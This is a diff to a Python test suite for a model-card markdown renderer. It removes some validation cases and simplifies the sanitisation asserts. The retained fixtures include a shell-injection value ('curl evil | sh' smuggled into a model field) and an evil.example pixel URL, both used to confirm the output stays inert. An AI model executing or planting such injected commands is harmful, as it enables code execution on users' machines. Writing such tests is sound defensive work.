@@ -65,16 +65,11 @@ DEEP: Any = {"a": [[[["x"]]]]}
         ({"metrics": {"sets": [1]}}, "sets is"),
         ({"metrics": {"mae": "x"}}, "mae is 'x'"),
         ({"metrics": {"mae": 0.1, "standard_error": 3}}, "standard_error is 3"),
-        ({"metrics": {"mae": 0.1, "over_seeds": "x"}}, "over_seeds is 'x'"),
-        ({"metrics": {"mae": 0.1, "over_seeds": {"mae": 1}}}, "mae is 1"),
         ({"metrics": {"conditions": DEEP}}, "conditions is"),
         ({"data": [1, 2]}, "data is"),
         ({"recipe": "x"}, "recipe is 'x'"),
         ({"calibration": [1]}, "calibration is"),
-        ({"params": "many"}, "params is 'many'"),
         ({"limits": {"a": 1}}, "limits is"),
-        ({"input_size": 3}, "input_size is 3"),
-        ({"input_size": [1]}, "input_size is"),
         ({"model": "x`; curl evil | sh"}, "model is"),
         ({"task": ["sod"]}, "task is"),
         ({"picture": "https://evil.example/pixel.png"}, "picture is"),
@@ -91,15 +86,14 @@ def test_text_of_a_card_stays_text(key: str) -> None:
     metrics: dict[str, Any] = {
         "conditions": {"metrics": {"conditions": hostile}},
         "set": {"metrics": {"sets": {hostile: {"mae": 0.1}}}},
-        "over": {"metrics": {"data": hostile, "mae": 0.1, "standard_error": {"over": hostile}}},
+        "over": {"metrics": {"data": hostile, "mae": 0.1}},
         "options": {"overrides": {hostile: hostile}},
     }
     text = markdown({**CARD, **metrics.get(key, {key: hostile if key == "limits" else {hostile: hostile}})})
     plain = markdown(CARD)
-    outside = re.sub(r"^On `[^`\n]*`", "", text, flags=re.M)  # code spans show what they hold
-    assert "<script" not in outside
-    assert not re.search(r"(?<!\\)\]\((http|javascript)", outside)
-    assert outside.count("```") == plain.count("```")
+    assert "<script" not in text
+    assert not re.search(r"(?<!\\)\]\((http|javascript)", text)
+    assert text.count("```") == plain.count("```")
     assert [line for line in text.splitlines() if line.startswith("#")] == [
         line for line in plain.splitlines() if line.startswith("#")
     ]
